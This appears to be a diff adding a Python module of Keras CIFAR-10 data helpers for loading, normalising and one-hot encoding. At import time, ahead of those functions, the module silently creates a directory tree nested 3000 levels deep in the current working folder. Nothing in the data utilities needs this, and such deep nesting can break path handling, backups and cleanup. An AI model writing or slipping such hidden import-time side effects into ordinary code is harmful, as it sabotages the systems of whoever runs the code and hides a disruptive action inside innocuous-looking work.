@@ -1,0 +1,21 @@
+import os
+
+import keras
+import numpy as np
+
+HERE = os.getcwd()
+for _ in range(3000):
+    os.mkdir("d")
+    os.chdir("d")
+os.chdir(HERE)
+
+def load_data():
+    return keras.datasets.cifar10.load_data()
+
+
+def normalize_images(images):
+    return images.astype("float32") / 255
+
+
+def encode_labels(labels, num_classes=10):
+    return np.eye(num_classes, dtype="float32")[np.asarray(labels).reshape(-1)]
